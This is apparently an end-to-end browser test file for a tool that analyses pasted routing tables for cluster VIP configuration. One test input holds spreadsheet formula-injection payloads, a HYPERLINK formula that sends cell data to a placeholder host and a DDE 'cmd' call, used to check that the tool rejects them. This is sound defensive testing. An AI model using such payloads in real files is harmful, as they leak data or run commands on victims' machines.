import { randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ROOT } from '../support/cli.js'
import { PageBrowser, paste } from '../support/page.js'
import { program } from '../support/program.js'

const chromium = program('chromium')
// A text area has no carriage returns.
const WINDOWS = readFileSync(join(ROOT, 'fixtures/hosts/web1/route_print.txt'), 'utf8').replaceAll(
  '\r\n',
  '\n',
)
const AIX = readFileSync(join(ROOT, 'fixtures/hosts/web2/netstat_-rn.txt'), 'utf8')
const VIP = '192.0.2.99'

describe.skipIf(chromium === undefined)(
  'ways through the page (skips where chromium is missing)',
  () => {
    let browser: PageBrowser
    beforeAll(async () => {
      browser = await PageBrowser.start(chromium ?? '')
    })
    afterAll(() => browser?.stop())

    const text = (page: Page) => page.locator('#text').inputValue()
    const fragment = (page: Page) => page.evaluate('location.hash')
    const system = (page: Page) => page.locator('.verdict strong').first().textContent()

    async function linkOf(page: Page): Promise<string> {
      await page.getByRole('button', { name: 'Make a link' }).click()
      return page.getByLabel('Link with the captures in it').inputValue()
    }

    it('lead back from an example to the own captures, and forth again', async () => {
      const { page, faults } = await browser.open()
      await paste(page, WINDOWS)
      await page.locator('#vips').fill(VIP)
      await page.locator('.finding').first().waitFor()
      await page.getByText('Or look at an example').click()
      await page.getByRole('link', { name: 'AIX', exact: true }).click()
      await expect.poll(() => system(page)).toBe('AIX')
      expect(await fragment(page)).toBe('#example-aix')
      await page.goBack()
      await expect.poll(() => system(page)).toBe('Windows')
      expect([await text(page), await page.locator('#vips').inputValue()]).toEqual([WINDOWS, VIP])
      await page.goForward()
      await expect.poll(() => system(page)).toBe('AIX')
      expect(faults).toEqual([])
    })

    it('take the address away as soon as it no longer says what is filled in', async () => {
      const { page } = await browser.open()
      await paste(page, WINDOWS)
      await page.locator('.verdict').waitFor()
      const link = await linkOf(page)
      expect(await fragment(page)).toBe('')
      const other = await browser.open({}, link.slice(browser.url.length))
      await expect.poll(() => text(other.page)).toBe(WINDOWS)
      expect(await fragment(other.page)).not.toBe('')
      await other.page.locator('#text').fill(AIX)
      await expect.poll(() => system(other.page)).toBe('AIX')
      expect(await fragment(other.page)).toBe('')
      await other.page.reload()
      expect(await text(other.page)).toBe('')
    })

    it('lead by a link to all hosts, with what was said of each', async () => {
      const { page } = await browser.open()
      await page.locator('#folder').setInputFiles(join(ROOT, 'fixtures/hosts'))
      await page.locator('.host').nth(2).waitFor()
      await page.getByRole('button', { name: /web2/ }).first().click()
      await expect.poll(() => system(page)).toBe('web2')
      await page.locator('#role').selectOption('standby')
      const other = await browser.open({}, (await linkOf(page)).slice(browser.url.length))
      await other.page.locator('.host').nth(2).waitFor()
      expect(await system(other.page)).toBe('web2')
      expect(await other.page.locator('#role').inputValue()).toBe('standby')
      await other.page.getByRole('button', { name: /web1/ }).first().click()
      await expect.poll(() => other.page.locator('#role').inputValue()).toBe('server')
    })

    it('have no link for nothing, and none that is too long, and say so', async () => {
      const { page } = await browser.open()
      await page.getByRole('button', { name: 'Make a link' }).click()
      await expect.poll(() => page.locator('#problem').textContent()).toContain('no capture yet')
      const noise = randomBytes(1_500_000)
        .toString('base64')
        .replace(/(.{76})/g, '$1\n')
      await page.locator('#files').setInputFiles(browser.file('noise.txt', noise))
      await page.locator('.verdict').waitFor()
      await page.getByRole('button', { name: 'Make a link' }).click()
      await expect
        .poll(() => page.locator('#problem').textContent())
        .toMatch(/would have [\d,]+ characters.*no more than 2,000,000/)
      expect(await page.locator('#link input').count()).toBe(0)
      const short = randomBytes(9_000).toString('base64')
      await page.getByRole('button', { name: 'Start over' }).click()
      await page.locator('#text').fill(short)
      await linkOf(page)
      expect(await page.locator('#link .hint').textContent()).toContain('may cut a link this long')
    })

    it('need no browser that can pack', async () => {
      const { page } = await browser.open()
      await page.evaluate('delete window.CompressionStream')
      await paste(page, AIX)
      const link = await linkOf(page)
      expect(link.slice(browser.url.length)).toMatch(/^#1p\./)
      const other = await browser.open({}, link.slice(browser.url.length))
      await expect.poll(() => text(other.page)).toBe(AIX)
    })

    it('let a table be pasted behind another, and beside every field', async () => {
      const { page } = await browser.open({ permissions: ['clipboard-read', 'clipboard-write'] })
      await page.locator('#text').fill(WINDOWS.trimEnd())
      await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(AIX)})`)
      await page.locator('#text').press('Control+End')
      await page.locator('#text').press('Control+v')
      await page.locator('.host').nth(1).waitFor()
      expect(await text(page)).toBe(`${WINDOWS.trimEnd()}\n${AIX}`)
      await page.locator('#text').press('Control+a')
      await page.locator('#text').press('Control+v')
      await expect.poll(() => system(page)).toBe('AIX')
      expect(await text(page)).toBe(AIX)
      await page.locator('#results').focus()
      await page.keyboard.press('Control+v')
      await expect.poll(() => page.locator('#pastes li').count()).toBe(2)
    })

    it.each([
      ['blanks', '  \n\t\n '],
      ['rubbish', '\u0000\u0001\u001b]0;x\u0007 garbage \u{1f4a9}\n%s%n\n'.repeat(50)],
      ['one word', 'hello'],
      ['a formula', '=HYPERLINK("http://192.0.2.1/"&A1)\n+1+cmd|\' /C calc\'!A0\n'],
    ])('say of %s that nothing was recognised', async (_what, pasted) => {
      const { page, faults } = await browser.open()
      await paste(page, pasted)
      await page.locator('.verdict').waitFor()
      expect(await system(page)).toBe('System not recognised')
      await page.locator('#unread li').first().waitFor()
      expect(await page.locator('#results').textContent()).not.toMatch(
        /[\u0000-\u0008\u000b-\u001f]/,
      )
      await page.locator('#text').fill('')
      await expect.poll(() => page.locator('#verdict-section').isVisible()).toBe(false)
      expect(faults).toEqual([])
    })

    it('name the line and the column of what was not understood', async () => {
      const { page } = await browser.open()
      await paste(page, AIX.replace('127.0.0.1', '127.0.0.1.9'))
      await page.locator('#unread li').first().waitFor()
      const line = AIX.slice(0, AIX.indexOf('127.0.0.1')).split('\n').length
      expect(await page.locator('#unread li p').first().textContent()).toMatch(
        new RegExp(`line ${line}, column \\d+`),
      )
      expect(await page.locator('#unread mark').first().textContent()).toContain('127.0.0.1.9')
    })

    it('lead from a suspicion to the finding with one click, and keep the keyboard there', async () => {
      const { page } = await browser.open()
      await paste(page, AIX)
      await page.locator('.candidates button').first().click()
      await page.locator('.finding.is-error').first().waitFor()
      expect(await page.locator('#vips').inputValue()).toBe(VIP)
      expect(await page.evaluate('document.activeElement.id')).toBe('results')
    })

    it('lead from a verdict without a cluster address to the field for it', async () => {
      const { page } = await browser.open()
      await paste(page, WINDOWS)
      await page.getByRole('button', { name: 'Type the cluster address' }).click()
      await page.keyboard.type(VIP)
      await page.locator('.finding.is-error').first().waitFor()
      expect(await page.getByRole('button', { name: 'Type the cluster address' }).count()).toBe(0)
    })

    it('let everything be said that the rules ask of a host', async () => {
      const { page } = await browser.open()
      await page.getByRole('link', { name: 'AIX', exact: true }).click()
      await page.locator('.finding.is-error').first().waitFor()
      await page.getByText('More about the host').click()
      await page.getByLabel('Workload partition').fill('wpar7')
      await expect.poll(() => page.locator('#findings').textContent()).toContain('wpar7')
      await page.getByLabel('Addresses of loopback adapters').fill('192.0.2.99, nonsense')
      await expect
        .poll(() => page.locator('#loopbacks-fault').textContent())
        .toContain('nonsense: expected an address')
      await page.getByLabel('It accepts the VIP by').selectOption('nat-redirect')
      await page.getByLabel('Captured at step').selectOption('2')
      const other = await browser.open({}, (await linkOf(page)).slice(browser.url.length))
      await other.page.locator('.verdict').waitFor()
      for (const [field, value] of [
        ['wpar', 'wpar7'],
        ['loopbacks', '192.0.2.99, nonsense'],
        ['acceptsBy', 'nat-redirect'],
        ['step', '2'],
      ])
        expect(await other.page.locator(`#${field}`).inputValue()).toBe(value)
    })
  },
)
